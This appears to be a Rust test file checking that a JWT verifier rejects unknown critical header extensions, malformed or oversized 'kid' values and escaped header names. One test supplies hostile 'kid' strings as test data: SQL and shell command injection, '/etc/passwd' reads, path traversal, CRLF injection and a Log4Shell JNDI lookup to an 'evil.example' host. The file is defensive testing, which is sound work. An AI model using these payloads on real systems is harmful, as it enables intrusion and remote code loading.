//! `crit`, `b64`, `zip`, `typ` and hostile values of `kid`.

use clerk_auth::testing::DevIssuer;
use serde_json::{Value, json};

use super::rejected_locally;
use crate::{app::App, draft::Class};

#[tokio::test]
async fn extensions_that_are_not_understood_are_rejected() {
    let app = App::start().await;
    let mut tokens = Vec::new();
    for class in Class::ALL {
        for (name, value) in [
            ("crit", json!([])),
            ("crit", json!(["exp"])),
            ("crit", json!(["b64"])),
            ("crit", json!(["http://openbanking.example/iat"])),
            ("crit", json!(null)),
            ("crit", json!("exp")),
            ("crit", json!({})),
            ("b64", json!(false)),
            ("b64", json!(true)),
            ("b64", json!(null)),
            ("zip", json!("DEF")),
            ("zip", json!("")),
            ("zip", json!(null)),
        ] {
            let draft = class.draft(&app.issuer).header(name, Some(value.clone()));
            tokens.push(((class, name, value), draft.sign(&app.issuer)));
        }
    }
    rejected_locally(app, tokens).await;
}

#[tokio::test]
async fn members_of_the_header_that_nobody_knows_change_nothing() {
    let app = App::start().await.warm().await;
    for class in Class::ALL {
        for (name, value) in [
            ("oiat", json!(1_800_000_000)),
            ("cty", json!("JWT")),
            ("CRIT", json!(["exp"])),
            ("exp", json!(1)),
            ("sub", json!("user_eve")),
            ("anything", json!({"a": [null]})),
        ] {
            let draft = class.draft(&app.issuer).header(name, Some(value.clone()));
            app.accepts(class.route(), &draft.sign(&app.issuer), (class, name, value)).await;
        }
    }
}

#[tokio::test]
async fn key_id_is_a_string_with_something_in_it() {
    let app = App::start().await;
    let mut tokens = Vec::new();
    let bad = [json!(null), json!(""), json!(7), json!(true), json!([]), json!({})];
    let ours = app.issuer.key_id();
    let bad = bad.into_iter().chain([json!([ours])]).map(Some).chain([None]);
    for value in bad.collect::<Vec<Option<Value>>>() {
        for class in Class::ALL {
            let token = class.draft(&app.issuer).header("kid", value.clone()).sign(&app.issuer);
            tokens.push(((class, value.clone()), token));
        }
    }
    rejected_locally(app, tokens).await;
}

/// A `kid` that makes the token too long is not even decoded.
#[tokio::test]
async fn key_id_of_64_kibibytes_is_rejected_without_a_fetch() {
    let app = App::start().await;
    let kid = json!("k".repeat(64 * 1024));
    let tokens = Class::ALL.map(|class| {
        let draft = class.draft(&app.issuer).header("kid", Some(kid.clone()));
        (class, draft.sign(&app.issuer))
    });
    rejected_locally(app, tokens).await;
}

/// An escape in a name is the same name: what must not be there cannot hide behind one.
#[tokio::test]
async fn escaped_names_of_the_header_are_the_same_names() {
    let app = App::start().await;
    let mut tokens = Vec::new();
    for class in Class::ALL {
        let draft = class.draft(&app.issuer);
        for (name, escaped, value) in [
            ("crit", r"cr\u0069t", json!(["exp"])),
            ("b64", r"\u0062\u0036\u0034", json!(false)),
            ("zip", r"\u007Aip", json!("DEF")),
            ("alg", r"\u0061lg", json!("none")),
            ("kid", r"k\u0069d", json!("")),
        ] {
            let header = draft.clone().header(name, Some(value)).header_json();
            let header = header.replace(&format!("\"{name}\""), &format!("\"{escaped}\""));
            assert!(header.contains(escaped));
            let payload = draft.payload_json();
            let token = app.issuer.sign_bytes(header.as_bytes(), payload.as_bytes());
            tokens.push(((class, escaped), token));
        }
    }
    rejected_locally(app, tokens).await;
}

/// Strings that are special somewhere are nothing special here: the key is not found.
#[tokio::test]
async fn hostile_key_ids_are_ordinary_strings() {
    let app = App::start().await.warm().await;
    let ours = app.issuer.key_id();
    let stranger = DevIssuer::start().await.unwrap();
    let kids = [
        stranger.key_id(),
        "hasOwnProperty".to_owned(),
        "__proto__".to_owned(),
        "constructor".to_owned(),
        "toString".to_owned(),
        "../../x".to_owned(),
        "/etc/passwd".to_owned(),
        "..%2f..%2fx".to_owned(),
        "https://evil.example/jwks.json".to_owned(),
        "' OR '1'='1".to_owned(),
        "1; DROP TABLE keys; --".to_owned(),
        "$(id)".to_owned(),
        "| cat /etc/passwd".to_owned(),
        "%s%n${jndi:ldap://evil.example/x}".to_owned(),
        "a\r\nx: y".to_owned(),
        "\u{0}".to_owned(),
        format!("{ours}\u{0}"),
        format!("{ours} "),
        format!(" {ours}"),
        ours.to_uppercase(),
        ours.to_lowercase(),
        ours[..ours.len() - 1].to_owned(),
        format!("{ours}{ours}"),
        "k".repeat(10 * 1024),
        "*".to_owned(),
        ".".to_owned(),
        "\u{202e}".to_owned(),
    ];
    // A few loads for the first of them, and none for the rest.
    let first = Class::Session.draft(&app.issuer).header("kid", Some(json!("first")));
    app.answers_to_strangers("/session", &first.sign(&app.issuer)).await;
    for kid in &kids {
        for class in Class::ALL {
            let draft = class.draft(&app.issuer).header("kid", Some(json!(kid)));
            app.rejects(class.route(), &draft.sign(&app.issuer), (class, kid)).await;
        }
    }
    // The tokens of another instance are signed with its own key.
    for class in Class::ALL {
        app.rejects(class.route(), &class.token(&stranger), (class, "another instance")).await;
    }
    // An escape is the same string.
    let escaped = format!("\\u0069{}", &ours[1..]);
    for class in Class::ALL {
        let draft = class.draft(&app.issuer);
        let header = draft.header_json().replace(&ours, &escaped);
        let token = app.issuer.sign_bytes(header.as_bytes(), draft.payload_json().as_bytes());
        app.accepts(class.route(), &token, "an escaped kid").await;
    }
}
